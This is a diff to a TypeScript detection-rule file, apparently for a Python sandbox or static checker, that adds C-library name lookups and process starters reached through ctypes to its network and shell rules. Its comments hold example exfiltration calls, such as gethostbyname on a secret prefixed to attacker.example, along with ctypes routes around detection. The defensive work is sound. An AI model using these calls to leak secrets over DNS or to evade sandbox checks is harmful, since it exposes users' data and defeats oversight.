@@ -442,6 +442,8 @@ const PLAYWRIGHT_REQUESTS = ["fetch", "get", "post", "put", "patch", "delete", "
 /** requests' and httpx's module-level request functions. */
 const HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
 /** socket's name lookups, each a DNS query (`socket.gethostbyname(f"{secret}.attacker.example")`). */
+/** The C library's name lookups (`ctypes.pythonapi.gethostbyname(b"x.attacker.example")`), each a DNS query. */
+const LIBC_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname2", "gethostbyname_r", "gethostbyname2_r", "gethostbyaddr", "gethostbyaddr_r", "res_query", "res_search", "res_querydomain", "res_send"];
 const SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"];
 /** An event loop's lookups (`loop.getaddrinfo(host, port)`). */
 const LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
@@ -554,10 +556,12 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("uuid", call("_get_command_stdout"), "shell"),
   py("multiprocessing.util", call("spawnv_passfds"), "shell"),
   // `ctypes.pythonapi` is the process's own symbols (`dlopen(NULL)`), the C library's among them: `pythonapi.system(b"…")`.
-  py("ctypes", call(...["system", "popen", ...OS_EXEC, "posix_spawn", "posix_spawnp"].map((f) => `pythonapi.${f}`)), "shell"),
+  // The C library's other starters too: `wordexp` runs `$(…)` through sh, `fexecve`/`execveat` a program by descriptor, glibc's `__libc_system`.
+  py("ctypes", call(...["system", "popen", ...OS_EXEC, "posix_spawn", "posix_spawnp", "wordexp", "fexecve", "execveat", "__libc_system"].map((f) => `pythonapi.${f}`)), "shell"),
   // Handed whole, the process's symbols are called by the name the callee gives (`CFUNCTYPE(c_int, c_char_p)(("system", pythonapi))`).
   py("ctypes", call("pythonapi"), "shell"),
-  py("ctypes", call(...["connect", "sendto", "sendmsg"].map((f) => `pythonapi.${f}`)), "network"),
+  // Its sends, and its name lookups (each a DNS query, as socket's are).
+  py("ctypes", call(...["connect", "sendto", "sendmsg", "sendmmsg", ...LIBC_LOOKUPS].map((f) => `pythonapi.${f}`)), "network"),
   py("test.support.script_helper", call("run_python_until_end", "assert_python_ok", "assert_python_failure", "spawn_python"), "shell"),
   py("_winapi", call("CreateProcess"), "shell"),
   // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
